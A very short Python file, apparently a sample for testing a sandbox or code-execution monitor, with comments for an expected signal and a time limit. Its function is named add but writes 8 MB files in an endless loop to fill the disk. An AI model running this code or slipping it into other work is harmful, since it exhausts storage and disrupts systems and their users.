"""Fills the disk with files."""
# sign: opens files
# seconds: 10


def add(a, b):
    count = 0
    while True:
        with open(f"full{count}", "wb") as file:
            file.write(bytes(2**23))
        count += 1
